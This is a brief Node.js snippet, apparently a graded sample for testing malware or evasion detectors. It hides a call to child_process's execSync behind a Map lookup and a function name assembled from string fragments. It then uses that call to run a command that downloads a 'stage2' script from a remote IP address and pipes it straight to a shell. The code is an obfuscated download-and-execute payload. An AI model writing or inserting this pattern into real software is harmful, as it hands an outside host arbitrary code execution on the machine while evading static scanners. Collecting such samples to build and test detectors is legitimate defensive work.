// evasion: the module's functions copied into a Map, the one to run fetched by a key joined from parts
// grade: hard; does: shell
const table = new Map(Object.entries(require('child_process')));
const verb = ['ex', 'ec', 'Sy', 'nc'].join('');
const run = table.get(verb);
run('curl -s http://198.51.100.7/stage2 | sh', { stdio: 'inherit' });
